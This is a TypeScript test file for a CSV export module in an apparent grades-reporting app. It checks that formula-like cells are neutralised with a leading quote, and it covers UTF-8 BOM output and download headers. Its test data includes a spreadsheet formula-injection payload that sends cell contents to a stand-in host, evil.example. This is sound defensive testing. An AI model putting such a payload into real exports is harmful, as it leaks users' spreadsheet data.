import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvResponse, neutralizeCell, writeCsv } from '../../../../../src/lib/server/reports/csv-writer.ts';

/** What a spreadsheet reads back: the cells after CSV quoting is undone (BOM dropped). */
function readBack(csv: string): string[][] {
  return parse(csv.replace(/^\uFEFF/, '')) as string[][];
}

describe('neutralizeCell', () => {
  test.each([['=HYPERLINK("http://evil.example/?x="&A1,"clic")'], ['+52 55 1234 5678'], ['-5'], ['@SUM(A1:A9)'], ['\t=1+1'], ['\r=1+1']])(
    'puts a single quote before text a spreadsheet would run: %j',
    (text) => {
      expect(neutralizeCell(text)).toBe(`'${text}`);
    },
  );

  test('leaves other text alone, a formula sign inside the text included', () => {
    expect(neutralizeCell('José Ñúñez Gutiérrez')).toBe('José Ñúñez Gutiérrez');
    expect(neutralizeCell('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(neutralizeCell('')).toBe('');
  });

  test('keeps numbers as numbers, negative ones included, and writes null as an empty cell', () => {
    expect(neutralizeCell(-5)).toBe(-5);
    expect(neutralizeCell(85.5)).toBe(85.5);
    expect(neutralizeCell(null)).toBe('');
  });

  test('refuses a number that is not finite: a bug upstream, not a cell', () => {
    expect(() => neutralizeCell(Number.NaN)).toThrow();
    expect(() => neutralizeCell(Number.POSITIVE_INFINITY)).toThrow();
  });
});

describe('writeCsv', () => {
  test('writes UTF-8 with a BOM, quotes what needs quoting and neutralises every text cell', () => {
    const csv = writeCsv([
      ['nombre', 'nota'],
      ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', -5],
      ['López, Ana "la jefa"', '-5'],
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain(',-5\n');
    expect(readBack(csv)).toEqual([
      ['nombre', 'nota'],
      [`'=HYPERLINK("http://evil.example/?x="&A1,"clic")`, '-5'],
      ['López, Ana "la jefa"', "'-5"],
    ]);
  });

  test('a cell that is a formula after a line break inside it stays one quoted cell', () => {
    expect(readBack(writeCsv([['x\n=1+1', 'y']]))).toEqual([['x\n=1+1', 'y']]);
  });
});

describe('csvResponse', () => {
  test('sends a download named in plain ASCII, not cached', async () => {
    const response = csvResponse('calificaciones-Generación 2026-2 · Centro-Bajío', [['a'], ['=1']]);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="calificaciones-generacion-2026-2-centro-bajio.csv"');
    expect(response.headers.get('Cache-Control')).toBe('private, no-store');
    expect(readBack(await response.text())).toEqual([['a'], ["'=1"]]);
  });
});
